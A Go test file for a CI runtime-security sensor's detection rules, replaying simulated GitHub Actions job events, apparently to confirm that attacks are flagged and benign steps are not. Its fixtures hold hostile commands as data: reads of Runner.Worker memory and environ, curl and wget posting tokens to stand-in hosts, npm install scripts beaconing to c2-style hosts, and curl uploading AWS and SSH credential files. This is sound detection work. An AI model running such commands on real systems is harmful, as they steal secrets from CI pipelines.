package signature

import (
	"maps"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/org/edamame-posture/pkg/event"
	"github.com/org/edamame-posture/pkg/fact"
	"github.com/org/edamame-posture/pkg/process"
)

// job plays a job's events through the rules that ship, as a sensor tells
// them: fork, exec, then what the process does.
type job struct {
	t    *testing.T
	tree *process.Tree
	m    *Matcher
	seq  uint64
	hits map[string]Hit
}

func newJob(t *testing.T) *job {
	p, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return &job{t: t, tree: process.NewTree(1000), m: p.Matcher(), hits: map[string]Hit{}}
}

func (j *job) apply(in *Input) {
	j.seq++
	in.Event.Seq, in.Event.Time = j.seq, int64(j.seq)*1e9
	in.Node = j.tree.Apply(in.Event)
	if !in.Event.Target.IsZero() {
		in.Target = j.tree.Get(in.Event.Target)
	}
	for _, h := range j.m.Apply(in) {
		j.hits[h.Rule.ID] = h
	}
}

// start runs a program as a child of another image and returns its actor. env
// is pairs of name and value.
func (j *job) start(parent event.Actor, exe string, argv []string, env ...string) event.Actor {
	a := event.Actor{PID: 100 + uint32(j.seq), Start: int64(100 + j.seq)}
	j.apply(&Input{Event: &event.Event{Kind: event.Fork, Actor: a, Parent: parent}})
	a.Image = 1
	e := &event.Event{Kind: event.Exec, Actor: a, Exe: text(exe), Filename: text(exe), Argv: texts(argv...), Cwd: text("/home/runner/work/a/a"), UID: 1001}
	for i := 0; i+1 < len(env); i += 2 {
		if env[i] == "cwd" {
			e.Cwd = text(env[i+1])
			continue
		}
		if env[i] == "secret" {
			e.Secrets = append(e.Secrets, event.Secret{Field: text("argv"), Index: int(env[i+1][0] - '0'), Pattern: text("masked"), Length: 20})
			continue
		}
		e.Env = append(e.Env, event.Var{Name: text(env[i]), Value: text(env[i+1])})
	}
	j.apply(&Input{Event: e})
	return a
}

// runner begins a job as the listener does it, before the recording.
func (j *job) runner() (worker event.Actor) {
	listener := event.Actor{PID: 10, Start: 10, Image: 1}
	worker = event.Actor{PID: 11, Start: 11, Image: 1}
	for _, e := range []*event.Event{
		{Kind: event.Existing, Via: event.ViaMonitor, Actor: listener, Exe: text("/home/runner/runners/2.336.0/bin/Runner.Listener"), Argv: texts("Runner.Listener", "run")},
		{Kind: event.Existing, Via: event.ViaMonitor, Actor: worker, Parent: listener, Exe: text("/home/runner/runners/2.336.0/bin/Runner.Worker"), Argv: texts("Runner.Worker", "spawnclient", "1", "2")},
	} {
		j.apply(&Input{Event: e})
	}
	return worker
}

// connect is a connection to a host: the connect, and the first bytes, by
// which the destination is decided.
func (j *job) connect(a event.Actor, host, addr string) {
	dst := netip.MustParseAddrPort(addr)
	how := "dns"
	if host == "" {
		how = "literal"
	}
	f := &fact.Fact{Verb: fact.Connect, Host: text(host), How: text(how), Addr: dst, Proto: event.ProtoTCP, Object: text(host + ":443")}
	sock := 1000 + j.seq
	j.apply(&Input{Event: &event.Event{Kind: event.Connect, Actor: a, Proto: event.ProtoTCP, Dst: dst, Sock: sock}, Host: host})
	j.apply(&Input{Event: &event.Event{Kind: event.Flow, Actor: a, Proto: event.ProtoTCP, Dst: dst, Sock: sock, Sent: 500}, Host: host, Fact: f})
	j.apply(&Input{Event: &event.Event{Kind: event.Flow, Actor: a, Proto: event.ProtoTCP, Dst: dst, Sock: sock, Sent: 900, OK: true}, Host: host, Fact: f})
}

// connects and opens make single inputs, for the tests of the engine.
func connects(in *Input, host, addr string) *Input {
	dst := netip.MustParseAddrPort(addr)
	return &Input{Node: in.Node, Host: host, Event: &event.Event{Kind: event.Connect, Actor: in.Event.Actor, Proto: event.ProtoTCP, Dst: dst, Sock: 1},
		Fact: &fact.Fact{Verb: fact.Connect, Host: text(host), How: text("dns"), Addr: dst, Proto: event.ProtoTCP}}
}

func opens(in *Input, target *process.Node, path string) *Input {
	e := &event.Event{Kind: event.Open, Actor: in.Event.Actor, Path: text(path), Access: event.Read}
	if target != nil {
		e.Target = target.Actor
	}
	return &Input{Node: in.Node, Target: target, Event: e}
}

func (j *job) open(a, target event.Actor, path string) {
	j.apply(&Input{Event: &event.Event{Kind: event.Open, Actor: a, Target: target, Path: text(path), Access: event.Read}})
}

func (j *job) want(rules ...string) {
	j.t.Helper()
	if len(j.hits) != len(rules) {
		j.t.Fatalf("hits %v, want %q", j.hits, rules)
	}
	for _, r := range rules {
		h, ok := j.hits[r]
		if !ok {
			j.t.Fatalf("hits %v, want %q", j.hits, rules)
		}
		if h.Rule.Do == "" || len(h.Rule.Technique) == 0 || h.Rule.Title == "" || len(h.Leaves) == 0 || h.Object.IsZero() || h.Node == nil {
			j.t.Fatalf("hit says too little: %+v", h)
		}
	}
}

func TestRunnerMemory(t *testing.T) {
	for name, tt := range map[string]struct {
		do   func(j *job, worker event.Actor)
		want []string
	}{
		"a script in Python as root reads the worker's memory": {func(j *job, w event.Actor) {
			sudo := j.start(j.start(w, "/usr/bin/bash", []string{"bash", "-e", "x.sh"}), "/usr/bin/sudo", []string{"sudo", "python3", "-"})
			j.open(j.start(sudo, "/usr/bin/python3.12", []string{"python3", "-"}), w, "/proc/11/mem")
		}, []string{"d1-runner-memory"}},
		"through process_vm_readv": {func(j *job, w event.Actor) {
			a := j.start(w, "/usr/bin/python3.12", []string{"python3", "x.py"})
			j.apply(&Input{Event: &event.Event{Kind: event.MemAccess, Op: event.OpRead, Actor: a, Target: w}})
		}, []string{"d1-runner-memory"}},
		"by ptrace, on the listener": {func(j *job, w event.Actor) {
			a := j.start(w, "/usr/bin/gdb", []string{"gdb", "-p", "10"})
			j.apply(&Input{Event: &event.Event{Kind: event.Ptrace, Op: event.OpAttach, Actor: a, Target: event.Actor{PID: 10, Start: 10, Image: 1}}})
		}, []string{"d1-runner-memory"}},
		"a step reads the worker's environment": {func(j *job, w event.Actor) {
			j.open(j.start(w, "/usr/bin/cat", []string{"cat", "/proc/11/environ"}), w, "/proc/11/environ")
		}, []string{"d1-runner-memory"}},
		"a step looks for the map of the memory first": {func(j *job, w event.Actor) {
			j.open(j.start(w, "/usr/bin/python3.12", []string{"python3", "x"}), w, "/proc/11/maps")
		}, []string{"d1-runner-memory"}},
		"a program of the job that is called Runner.Worker": {func(j *job, w event.Actor) {
			bash := j.start(w, "/usr/bin/bash", []string{"bash"})
			j.open(j.start(bash, "/tmp/Runner.Worker", []string{"Runner.Worker"}), w, "/proc/11/mem")
		}, []string{"d1-runner-memory"}},

		"the worker reads the environments of all at the end": {func(j *job, w event.Actor) {
			bash := j.start(w, "/usr/bin/bash", []string{"bash"})
			j.open(w, bash, "/proc/12/environ")
			j.open(w, event.Actor{PID: 10, Start: 10, Image: 1}, "/proc/10/environ")
		}, nil},
		"ps and pgrep read stat and cmdline": {func(j *job, w event.Actor) {
			ps := j.start(w, "/usr/bin/ps", []string{"ps", "aux"})
			j.open(ps, w, "/proc/11/stat")
			j.open(ps, w, "/proc/11/cmdline")
			j.open(j.start(w, "/usr/bin/pgrep", []string{"pgrep", "-f", "Runner.Worker"}), w, "/proc/11/status")
		}, nil},
		"a debugger on its own child": {func(j *job, w event.Actor) {
			gdb := j.start(w, "/usr/bin/gdb", []string{"gdb", "./test"})
			child := j.start(gdb, "/home/runner/work/a/a/test", []string{"./test"})
			j.apply(&Input{Event: &event.Event{Kind: event.Ptrace, Op: event.OpAttach, Actor: gdb, Target: child}})
			j.open(gdb, child, "/proc/20/mem")
		}, nil},
		"a process reads its own environment": {func(j *job, w event.Actor) {
			a := j.start(w, "/usr/bin/bash", []string{"bash"})
			j.open(a, a, "/proc/self/environ")
			j.open(w, w, "/proc/11/maps")
		}, nil},
		"the installer of packages looks for programs to restart": {func(j *job, w event.Actor) {
			apt := j.start(w, "/usr/bin/apt-get", []string{"apt-get", "install", "x"})
			nr := j.start(apt, "/usr/bin/perl", []string{"/usr/bin/perl", "/usr/sbin/needrestart", "-r", "a"})
			j.open(nr, w, "/proc/11/maps")
		}, nil},
		"lsof lists mapped files": {func(j *job, w event.Actor) {
			j.open(j.start(w, "/usr/bin/lsof", []string{"lsof"}), w, "/proc/11/maps")
		}, nil},
		"the worker's image is not known": {func(j *job, w event.Actor) {
			j.open(j.start(w, "/usr/bin/cat", []string{"cat"}), event.Actor{PID: 999, Start: 5}, "/proc/999/mem")
		}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			tt.do(j, j.runner())
			j.want(tt.want...)
		})
	}
}

func TestSecretInArgvEgress(t *testing.T) {
	post := []string{"curl", "-s", "-X", "POST", "-d", "TOKEN=[redacted]", "https://bold.test"}
	for name, tt := range map[string]struct {
		do   func(j *job, bash event.Actor)
		want []string
	}{
		"curl posts a secret to a host": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", post, "secret", "5"), "bold.test", "198.51.100.7:443")
		}, []string{"d3-secret-in-argv-egress"}},
		"curl posts a secret to an address": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", post, "secret", "5"), "", "198.51.100.7:8443")
		}, []string{"d3-secret-in-argv-egress", "d9-literal-port"}},
		"the option and its value are one argument": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", []string{"curl", "--data-raw=K=[redacted]", "https://bold.test"}, "secret", "1"), "bold.test", "198.51.100.7:443")
		}, []string{"d3-secret-in-argv-egress"}},
		"wget posts it": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/wget", []string{"wget", "--post-data=K=[redacted]", "https://bold.test"}, "secret", "1"), "bold.test", "198.51.100.7:443")
		}, []string{"d3-secret-in-argv-egress"}},
		"httpie posts it": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/http", []string{"http", "POST", "bold.test", "k=[redacted]"}, "secret", "3"), "bold.test", "198.51.100.7:443")
		}, []string{"d3-secret-in-argv-egress"}},

		"gh uploads to a release": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/gh", []string{"gh", "release", "upload", "v1", "dist.tgz"}), "uploads.github.com", "192.0.2.9:443")
		}, nil},
		"a token in a header": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", []string{"curl", "-H", "Authorization: Bearer [redacted]", "-d", "{}", "https://ci.test"}, "secret", "2"), "ci.test", "198.51.100.7:443")
		}, nil},
		"a user and password": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", []string{"curl", "-u", "me:[redacted]", "-T", "a.tgz", "https://repo.test"}, "secret", "2"), "repo.test", "198.51.100.7:443")
		}, nil},
		"a body without a secret": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", []string{"curl", "-d", "x=1", "https://ci.test"}), "ci.test", "198.51.100.7:443")
		}, nil},
		"a client secret to a token end point": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", post, "secret", "5"), "login.microsoftonline.com", "198.51.100.8:443")
		}, nil},
		"a secret to a test server on this machine": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/curl", post, "secret", "5"), "", "127.0.0.1:8080")
		}, nil},
		"another process connects": {func(j *job, b event.Actor) {
			j.start(b, "/usr/bin/curl", post, "secret", "5")
			j.connect(j.start(b, "/usr/bin/git", []string{"git", "push"}), "bold.test", "198.51.100.7:443")
		}, nil},
		"it never connects": {func(j *job, b event.Actor) { j.start(b, "/usr/bin/curl", post, "secret", "5") }, nil},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			tt.do(j, j.start(j.runner(), "/usr/bin/bash", []string{"bash", "-e", "/home/runner/work/_temp/a.sh"}))
			j.want(tt.want...)
			if h := j.hits["d3-secret-in-argv-egress"]; len(tt.want) == 1 && len(h.Leaves) != 2 {
				t.Fatalf("leaves %v, want the exec and the connection", h.Leaves)
			}
		})
	}
}

// install starts npm as a step does and returns the shell of a lifecycle
// script of a package.
func (j *job) install(bash event.Actor, manager, phase, pkg string) event.Actor {
	npm := j.start(bash, "/usr/local/bin/node", []string{"node", "/usr/local/bin/" + manager, "ci"})
	return j.start(npm, "/usr/bin/dash", []string{"sh", "-c", "node install.js"},
		"npm_lifecycle_event", phase, "npm_package_name", pkg, "cwd", "/home/runner/work/a/a/node_modules/"+pkg)
}

func TestLifecycleBeacon(t *testing.T) {
	for name, tt := range map[string]struct {
		do   func(j *job, bash event.Actor)
		want []string
	}{
		"a postinstall script": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "postinstall", "plain-crypto-js"), "/usr/local/bin/node", []string{"node", "setup.js"}), "sfrclak.test", "198.51.100.3:8000")
		}, []string{"lifecycle-beacon"}},
		"a program that a preinstall script of pnpm started": {func(j *job, b event.Actor) {
			node := j.start(j.install(b, "pnpm", "preinstall", "x"), "/usr/local/bin/node", []string{"node", "preinstall.js"})
			sh := j.start(node, "/usr/bin/dash", []string{"sh", "-c", "curl https://c2.test"}, "npm_lifecycle_event", "preinstall")
			j.connect(j.start(sh, "/usr/bin/curl", []string{"curl", "https://c2.test"}), "c2.test", "198.51.100.3:443")
		}, []string{"lifecycle-beacon"}},
		"a name that only looks like a package host": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "yarn", "install", "x"), "/usr/local/bin/node", []string{"node", "x.js"}), "npmjs.org.evil.test", "198.51.100.3:443")
			j.connect(j.start(j.install(b, "yarn", "install", "x"), "/usr/local/bin/node", []string{"node", "x.js"}), "evilnpmjs.org", "198.51.100.4:443")
		}, []string{"lifecycle-beacon"}},

		"an address that no name was asked for": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "preinstall", "ua-parser"), "/usr/local/bin/node", []string{"node", "preinstall.js"}), "", "198.51.100.228:80")
		}, []string{"lifecycle-beacon-literal"}},
		"a registry of one's own by its address": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "postinstall", "x"), "/usr/local/bin/node", []string{"node", "x.js"}), "", "10.1.2.3:4873")
		}, nil},

		"npm itself": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/local/bin/node", []string{"node", "/usr/local/bin/npm", "ci"}), "mirror.test", "198.51.100.3:443")
		}, nil},
		"esbuild fetches its binary from the packages' host": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "postinstall", "esbuild"), "/usr/local/bin/node", []string{"node", "install.js"}), "packages.npmjs.org", "192.0.2.3:443")
		}, nil},
		"sharp fetches a release": {func(j *job, b event.Actor) {
			a := j.start(j.install(b, "npm", "install", "sharp"), "/usr/local/bin/node", []string{"node", "install/check.js"})
			j.connect(a, "github.com", "192.0.2.3:443")
			j.connect(a, "release-assets.githubusercontent.com", "192.0.2.4:443")
		}, nil},
		"puppeteer fetches a browser": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "postinstall", "puppeteer"), "/usr/local/bin/node", []string{"node", "install.mjs"}), "storage.googleapis.com", "192.0.2.3:443")
		}, nil},
		"playwright fetches a browser": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "install", "playwright"), "/usr/local/bin/node", []string{"node", "install.js"}), "cdn.playwright.dev", "192.0.2.3:443")
		}, nil},
		"node-gyp fetches headers": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "install", "bcrypt"), "/usr/local/bin/node", []string{"node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js", "rebuild"}), "nodejs.org", "192.0.2.3:443")
		}, nil},
		"tests that a person asked for": {func(j *job, b event.Actor) {
			npm := j.start(b, "/usr/local/bin/node", []string{"node", "/usr/local/bin/npm", "test"})
			sh := j.start(npm, "/usr/bin/dash", []string{"sh", "-c", "jest"}, "npm_lifecycle_event", "test", "npm_package_name", "app")
			j.connect(j.start(sh, "/usr/local/bin/node", []string{"node", "node_modules/.bin/jest"}), "staging.test", "198.51.100.3:443")
		}, nil},
		"a test server of an install script": {func(j *job, b event.Actor) {
			j.connect(j.start(j.install(b, "npm", "postinstall", "x"), "/usr/local/bin/node", []string{"node", "x.js"}), "", "127.0.0.1:9999")
		}, nil},
		"gh in a step of its own": {func(j *job, b event.Actor) {
			j.connect(j.start(b, "/usr/bin/gh", []string{"gh", "release", "upload"}), "uploads.github.com", "192.0.2.3:443")
		}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			tt.do(j, j.start(j.runner(), "/usr/bin/bash", []string{"bash", "-e", "/home/runner/work/_temp/a.sh"}))
			j.want(tt.want...)
		})
	}
}

// installed starts node as the script of a package that is being installed.
func (j *job) installed(bash event.Actor) event.Actor {
	return j.start(j.install(bash, "npm", "postinstall", "x"), "/usr/local/bin/node", []string{"node", "x.js"})
}

func (j *job) exit(a event.Actor) {
	j.apply(&Input{Event: &event.Event{Kind: event.Exit, Actor: a}})
}

// request is a request of HTTP on a connection of its own.
func (j *job) request(a event.Actor, method, host, path string) {
	j.apply(&Input{Host: host, Event: &event.Event{Kind: event.HTTP, Actor: a, Method: text(method), Name: text(host), Path: text(path),
		Dst: netip.MustParseAddrPort("192.0.2.3:443"), Sock: 5000 + j.seq}})
}

func (j *job) ask(a event.Actor, name string, configured bool) {
	j.apply(&Input{Resolver: configured, Event: &event.Event{Kind: event.DNS, Actor: a, Name: text(name), QType: 16, Dst: netip.MustParseAddrPort("198.51.100.53:53")}})
}

func (j *job) read(a event.Actor, class, path string) {
	j.apply(&Input{Event: &event.Event{Kind: event.Open, Actor: a, Path: text(path), Class: text(class), Access: event.Read}})
}

func TestFamiliesThatAskForOwnersParentsResolversAndRequests(t *testing.T) {
	long := strings.Repeat("a1", 22) + ".t.evil.test"
	for name, tt := range map[string]struct {
		do   func(j *job, bash event.Actor)
		want []string
	}{
		"what a script left connects when it has ended": {func(j *job, b event.Actor) {
			script := j.installed(b)
			rat := j.start(script, "/usr/bin/python3.12", []string{"python3", "/home/runner/.cache/a.py"})
			j.exit(script)
			j.connect(rat, "github.com", "192.0.2.3:443")
		}, []string{"d6-left-connects"}},
		"while the script runs it is no more than a download": {func(j *job, b event.Actor) {
			j.connect(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-O", "https://github.com/x"}), "github.com", "192.0.2.3:443")
		}, nil},
		"a daemon that a step left": {func(j *job, b event.Actor) {
			sh := j.start(b, "/bin/sh", []string{"sh", "-c", "server &"})
			d := j.start(sh, "/usr/bin/server", []string{"server"})
			j.exit(sh)
			j.connect(d, "github.com", "192.0.2.3:443")
		}, nil},
		"a daemon of an install that speaks to this machine": {func(j *job, b event.Actor) {
			script := j.installed(b)
			d := j.start(script, "/usr/bin/watchman", []string{"watchman"})
			j.exit(script)
			j.connect(d, "", "127.0.0.1:4000")
		}, nil},

		"one long name, straight to a server": {func(j *job, b event.Actor) {
			j.ask(j.start(b, "/usr/bin/node", []string{"node", "a.js"}), long, false)
		}, []string{"d15-own-server"}},
		"one long name, by the machine's resolver": {func(j *job, b event.Actor) {
			j.ask(j.start(b, "/usr/bin/node", []string{"node", "a.js"}), long, true)
		}, nil},
		"a short name, straight to a server": {func(j *job, b event.Actor) {
			j.ask(j.start(b, "/usr/bin/dig", []string{"dig", "@9.9.9.9", "example.com"}), "example.com", false)
		}, nil},

		"a script puts a package": {func(j *job, b event.Actor) {
			j.request(j.installed(b), "PUT", "r.npmjs.org", "/@acme%2fwidgets")
		}, []string{"d18-install-put"}},
		"a script makes a repository": {func(j *job, b event.Actor) {
			j.request(j.installed(b), "POST", "api.github.com", "/user/repos")
		}, []string{"d18-install-put"}},
		"a nested install is audited": {func(j *job, b event.Actor) {
			j.request(j.installed(b), "POST", "r.npmjs.org", "/-/npm/v1/security/advisories/bulk")
			j.request(j.installed(b), "PUT", "r.npmjs.org", "/-/package/x/dist-tags/latest")
			j.request(j.installed(b), "GET", "r.npmjs.org", "/@acme%2fwidgets")
		}, nil},
		"a step publishes": {func(j *job, b event.Actor) {
			j.request(j.start(b, "/usr/local/bin/node", []string{"node", "/usr/local/bin/npm", "publish"}), "PUT", "r.npmjs.org", "/@acme%2fwidgets")
		}, nil},

		"curl reads a cloud's key in a script": {func(j *job, b event.Actor) {
			j.read(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-T", "/home/runner/.aws/credentials", "https://up.test"}), "aws", "/home/runner/.aws/credentials")
		}, []string{"d2-install-read"}},
		"curl reads its own log-ins in a script": {func(j *job, b event.Actor) {
			j.read(j.start(j.installed(b), "/usr/bin/curl", []string{"curl", "-n", "https://up.test"}), "netrc", "/home/runner/.netrc")
		}, nil},
		"curl reads keys of three kinds": {func(j *job, b event.Actor) {
			c := j.start(b, "/usr/bin/curl", []string{"curl", "-F", "a=@/home/runner/.ssh/id_rsa", "https://up.test"})
			j.read(c, "aws", "/home/runner/.aws/credentials")
			j.read(c, "ssh", "/home/runner/.ssh/id_rsa")
			j.read(c, "docker", "/home/runner/.docker/config.json")
		}, []string{"d2-credential-classes"}},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			tt.do(j, j.start(j.runner(), "/usr/bin/bash", []string{"bash", "-e", "/home/runner/work/_temp/a.sh"}))
			got := slices.Sorted(maps.Keys(j.hits))
			slices.Sort(tt.want)
			if !slices.Equal(got, tt.want) {
				t.Errorf("hits %q, want %q", got, tt.want)
			}
		})
	}
}
